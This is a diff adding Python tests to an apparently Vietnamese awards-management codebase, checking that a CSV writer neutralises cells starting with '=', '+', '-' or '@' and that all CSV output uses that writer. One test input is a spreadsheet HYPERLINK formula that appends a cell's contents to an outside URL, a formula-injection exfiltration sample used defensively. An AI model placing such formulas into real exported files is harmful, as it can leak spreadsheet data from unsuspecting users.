@@ -12,6 +12,7 @@ go untested.
 from __future__ import annotations
 
 import ast
+import csv
 import datetime as dt
 import io
 from collections.abc import Callable
@@ -26,7 +27,7 @@ from openpyxl import Workbook, load_workbook
 from thidua.awards.import_awards import HEADERS, apply_import
 from thidua.awards.models import AwardForm
 from thidua.campaigns.models import Campaign
-from thidua.lib import xlsx
+from thidua.lib import csvfile, xlsx
 from thidua.org.demo import AGENCY_CODE
 from thidua.org.models import Unit
 from thidua.scoring import sheets
@@ -193,3 +194,34 @@ def test_the_safe_cell_keeps_numbers_and_plain_text() -> None:
         ("- Như Điều 2;", "s", True),
         ("=", "s", True),
     ]
+
+
+def test_csv_files_write_formula_like_text_as_text() -> None:
+    """The CSV files in the ZIPs (reports' summary, a dossier's manifest, the covenant's
+    signatures) go through one writer: a cell that would start a formula gets an apostrophe,
+    numbers and plain text are written as they are."""
+    text = csvfile.csv_bytes(
+        [['=HYPERLINK("http://x"&A1,"x")', "+1", "-", "@SUM(A1)", "Đơn vị A", -5, 3]]
+    ).decode("utf-8")
+    assert text.startswith("\ufeff")
+    row = next(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+    assert row == [
+        '\'=HYPERLINK("http://x"&A1,"x")',
+        "'+1",
+        "'-",
+        "'@SUM(A1)",
+        "Đơn vị A",
+        "-5",
+        "3",
+    ]
+
+
+def test_every_csv_the_system_writes_goes_through_the_safe_writer() -> None:
+    bare = [
+        f"{path.relative_to(ROOT).as_posix()}:{number}"
+        for path in ROOT.rglob("*.py")
+        if path.relative_to(ROOT).as_posix() != "lib/csvfile.py"
+        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
+        if "csv.writer(" in line or "csv.DictWriter(" in line
+    ]
+    assert bare == [], "write CSV through thidua.lib.csvfile.csv_bytes"
